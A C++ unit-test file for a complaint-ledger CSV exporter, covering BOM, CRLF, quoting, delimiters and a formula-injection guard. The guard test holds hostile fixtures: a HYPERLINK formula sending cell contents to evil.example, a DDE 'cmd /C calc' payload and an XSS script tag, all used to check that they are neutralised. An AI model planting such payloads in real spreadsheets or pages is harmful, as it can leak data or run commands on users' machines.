// CSV end to end, read back with Python's csv module (read_back.py) and
// checked byte by byte where bytes are the point (BOM, CRLF, quoting).
#include <gtest/gtest.h>

#include "ledger_export.hpp"
#include "test_support.hpp"

using namespace qloop::ledger;
using namespace ledger_test;

namespace {

json export_csv(Settings s, const std::vector<json> &cases) {
  LedgerExport e(s);
  json arr = json::array();
  for (const auto &c : cases) arr.push_back(c);
  e.write_batch(arr.dump());
  return e.finish();
}

std::size_t column(const json &rows, const std::string &heading) {
  const auto &h = rows[0];
  for (std::size_t i = 0; i < h.size(); ++i)
    if (h[i] == heading) return i;
  throw std::out_of_range("no column " + heading);
}

} // namespace

TEST(Csv, Utf8WithoutBomByDefaultAndCrlfRows) {
  const auto out = temp_dir() / "ledger.csv";
  const json summary = export_csv(settings_for(Format::Csv, out), {sample_case(), bare_case("QC-2")});
  const std::string bytes = read_text(out.string());
  EXPECT_NE(bytes.substr(0, 3), "\xEF\xBB\xBF");
  EXPECT_EQ(bytes.substr(0, 15), "Complaint no.,R");
  const json back = read_back("csv", out);
  EXPECT_FALSE(back["bom"].get<bool>());
  EXPECT_EQ(back["crlf_lines"], 3);
  const json &rows = back["rows"];
  ASSERT_EQ(rows.size(), 3u);
  EXPECT_EQ(rows[0].size(), 18u);
  EXPECT_EQ(rows[1][column(rows, "Received (UTC)")], "2025-11-25 18:01:27");
  EXPECT_EQ(rows[1][column(rows, "Customer")], "北方重工机械");
  EXPECT_EQ(rows[1][column(rows, "Qty affected")], "1");
  EXPECT_EQ(rows[1][column(rows, "Cycle (days)")], "12.31");
  EXPECT_EQ(rows[1][column(rows, "Key complaint")], "FALSE");
  EXPECT_EQ(rows[2][column(rows, "Customer")], "");
  EXPECT_EQ(summary["rows"], 2);
  EXPECT_EQ(summary["table"], "complaints");
}

TEST(Csv, BomWhenAsked) {
  const auto out = temp_dir() / "bom.csv";
  Settings s = settings_for(Format::Csv, out);
  s.bom = true;
  export_csv(s, {sample_case()});
  EXPECT_EQ(read_text(out.string()).substr(0, 3), "\xEF\xBB\xBF");
  const json back = read_back("csv", out);
  EXPECT_TRUE(back["bom"].get<bool>());
  EXPECT_EQ(back["rows"][0][0], "Complaint no."); // the BOM is not part of the first heading
}

TEST(Csv, InjectionGuardAndQuoting) {
  const auto out = temp_dir() / "hostile.csv";
  const json summary = export_csv(settings_for(Format::Csv, out), {hostile_case()});
  const json back = read_back("csv", out);
  const json &rows = back["rows"];
  ASSERT_EQ(rows.size(), 2u);
  const json &r = rows[1];
  EXPECT_EQ(r[column(rows, "Complaint no.")], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
  EXPECT_EQ(r[column(rows, "Product model")], "'+cmd|' /C calc'!A0");
  EXPECT_EQ(r[column(rows, "Lot")], "'-2+3");
  EXPECT_EQ(r[column(rows, "Order no.")], "'@SUM(1,2)");
  EXPECT_EQ(r[column(rows, "Customer")], "<script>alert('x')</script>");
  EXPECT_EQ(r[column(rows, "Phenomenon")].get<std::string>().size(), 100u * 1024); // CSV has no cell limit
  EXPECT_EQ(summary["guarded_cells"], 4);
  // The raw bytes: the guarded formula is quoted with its quotes doubled.
  const std::string bytes = read_text(out.string());
  EXPECT_NE(bytes.find("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""), std::string::npos);
}

TEST(Csv, GuardCanBeTurnedOff) {
  const auto out = temp_dir() / "raw.csv";
  Settings s = settings_for(Format::Csv, out);
  s.injection_guard = false;
  export_csv(s, {hostile_case()});
  const json rows = read_back("csv", out)["rows"];
  EXPECT_EQ(rows[1][column(rows, "Lot")], "-2+3");
}

TEST(Csv, ActionsTableWithSemicolonsAndOffset) {
  const auto out = temp_dir() / "actions.csv";
  Settings s = settings_for(Format::Csv, out, Lang::ZhCN);
  s.csv_table = Table::Actions;
  s.delimiter = ';';
  s.utc_offset_minutes = 480;
  json c = hostile_case();
  c["actions"][0]["evidence"] = "a;b";
  const json summary = export_csv(s, {c, bare_case("QC-2")});
  const json rows = read_back("csv", out, ";")["rows"];
  ASSERT_EQ(rows.size(), 3u);
  EXPECT_EQ(rows[0][0], "客诉编号");
  EXPECT_EQ(rows[1][column(rows, "措施内容")], "'=1+2");
  EXPECT_EQ(rows[1][column(rows, "证据")], "a;b");
  EXPECT_EQ(rows[1][column(rows, "截止时间 (UTC+08:00)")], "2025-12-01 02:01:27");
  EXPECT_EQ(rows[1][column(rows, "类型")], "临时措施");
  EXPECT_EQ(rows[2][column(rows, "负责人")], "'\tleading tab");
  EXPECT_EQ(summary["rows"], 2);
}

TEST(Csv, EightDTable) {
  const auto out = temp_dir() / "8d.csv";
  Settings s = settings_for(Format::Csv, out);
  s.csv_table = Table::EightD;
  export_csv(s, {sample_case(), bare_case("QC-2")});
  const json rows = read_back("csv", out)["rows"];
  ASSERT_EQ(rows.size(), 2u);
  EXPECT_EQ(rows[1][column(rows, "D3 qty sorted")], "20");
  EXPECT_NE(rows[1][column(rows, "D2 problem description")].get<std::string>().find("\nWhy: customer impact"),
            std::string::npos);
}
